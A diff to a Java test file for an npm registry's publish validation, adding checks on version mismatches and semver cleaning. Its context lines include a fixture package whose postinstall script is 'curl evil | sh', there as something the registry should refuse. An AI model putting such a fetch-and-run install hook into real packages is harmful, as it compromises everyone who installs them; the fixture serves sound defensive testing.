@@ -179,6 +179,11 @@ class NpmRegistryTest {
     assertRefused(publishBody("pkg", "1.0.0", "", sha512(otherVersion), sha1(otherVersion),
         Base64.getEncoder().encodeToString(otherVersion)), "version");
 
+    // build metadata is ignored as npm's semver.clean ignores it, but not a version that differs otherwise
+    byte[] otherBuild = tarball(packageJson("pkg", "v1.0.1+build.2"));
+    assertRefused(publishBody("pkg", "1.0.0", "", sha512(otherBuild), sha1(otherBuild),
+        Base64.getEncoder().encodeToString(otherBuild)), "version");
+
     byte[] tgz = tarball(packageJson("pkg", "1.0.0"));
     assertRefused(publishBody("pkg", "1.0.0", ",\"dependencies\":{\"evil\":\"1.0.0\"}", sha512(tgz), sha1(tgz),
         Base64.getEncoder().encodeToString(tgz)), "dependencies");
@@ -186,6 +191,13 @@ class NpmRegistryTest {
     byte[] withScript = tarball("{\"name\":\"pkg\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl evil | sh\"}}");
     assertRefused(publishBody("pkg", "1.0.0", "", sha512(withScript), sha1(withScript),
         Base64.getEncoder().encodeToString(withScript)), "scripts.postinstall");
+  }
+
+  @Test
+  void versionsAreComparedAsNpmCleansThem() {
+    assertThat(NpmRegistry.cleanVersion(" =v1.2.0+build.7 ")).isEqualTo("1.2.0");
+    assertThat(NpmRegistry.cleanVersion("2.0.0-rc.1+sha.abc")).isEqualTo("2.0.0-rc.1");
+    assertThat(NpmRegistry.cleanVersion("1.0.0")).isEqualTo("1.0.0");
   }
 
   @Test
